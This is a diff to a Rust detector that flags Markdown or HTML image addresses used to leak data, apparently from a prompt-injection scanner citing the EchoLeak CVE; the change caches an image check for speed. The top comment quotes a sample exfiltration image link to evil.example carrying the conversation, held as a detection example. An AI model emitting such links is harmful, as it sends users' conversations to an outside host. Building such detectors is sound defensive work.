@@ -4,7 +4,7 @@
 //! II-09; EchoLeak, CVE-2025-32711). Caught: `![x](https://evil.example/p.png?d={conversation})`. Harmless look-alike: a
 //! badge, a signed image address, `https://api.example/users/{user_id}`.
 
-use std::ops::Range;
+use std::{cell::OnceCell, ops::Range};
 
 use memchr::{memmem, memrchr_iter};
 
@@ -46,6 +46,8 @@ impl Detector for Exfiltration {
         }
         for sight in passage.sights() {
             let text = sight.text();
+            let image = OnceCell::new();
+            let has_image = || *image.get_or_init(|| memmem::find(text.as_bytes(), b"![").is_some());
             for mark in [":/", ":\\", "//", "\\\\"] {
                 let mut from = 0;
                 for at in memmem::find_iter(text.as_bytes(), mark) {
@@ -53,7 +55,7 @@ impl Detector for Exfiltration {
                         && let Some(range) = address(text, at)
                     {
                         from = range.end;
-                        self.judge(sight, range, hits);
+                        self.judge(sight, range, &has_image, hits);
                     }
                 }
             }
@@ -66,7 +68,14 @@ impl Detector for Exfiltration {
 const LONGEST: usize = 4 * 1024;
 
 impl Exfiltration {
-    fn judge(&self, sight: Sight<'_>, range: Range<usize>, hits: &mut Vec<Hit>) {
+    /// `has_image` says whether the text has an image of Markdown anywhere.
+    fn judge(
+        &self,
+        sight: Sight<'_>,
+        range: Range<usize>,
+        has_image: &dyn Fn() -> bool,
+        hits: &mut Vec<Hit>,
+    ) {
         let text = sight.text();
         let address = text.get(range.clone()).unwrap_or_default();
         let is_scheme = |(scheme, _): &(&str, &str)| scheme.bytes().all(|b| b.is_ascii_alphanumeric());
@@ -79,7 +88,7 @@ impl Exfiltration {
         if self.is_allowed(&host) {
             return;
         }
-        let shown = || is_shown(text, range.start);
+        let shown = || is_shown(text, range.start, has_image);
         // Without a scheme, two slashes begin an address only where one is loaded; elsewhere they are a comment, or a path.
         let has_scheme = !address.starts_with(['/', '\\']);
         if !has_scheme && !((asks_for_data(carried) || carries_prose(carried)) && shown()) {
@@ -156,7 +165,7 @@ fn address(text: &str, at: usize) -> Option<Range<usize>> {
 const BEFORE: usize = 2 * 1024;
 
 /// Whether what stands before an address makes a reader load it unasked: a Markdown or HTML image, a style, another page.
-fn is_shown(text: &str, start: usize) -> bool {
+fn is_shown(text: &str, start: usize, has_image: &dyn Fn() -> bool) -> bool {
     let before = text.get(text.floor_char_boundary(start.saturating_sub(BEFORE))..start).unwrap_or_default();
     let before = before.trim_end_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '<' | '"' | '\''));
     if let Some(label) = before.strip_suffix("](") {
@@ -167,7 +176,7 @@ fn is_shown(text: &str, start: usize) -> bool {
     if let Some(label) = before.strip_suffix("]:") {
         // Named here, shown wherever an image has that name.
         let line = label.rsplit('\n').next().unwrap_or_default().trim_start_matches([' ', '>']);
-        return line.starts_with('[') && memmem::find(text.as_bytes(), b"![").is_some();
+        return line.starts_with('[') && has_image();
     }
     let ends_with = |suffix: &str| {
         let start = before.len().checked_sub(suffix.len());
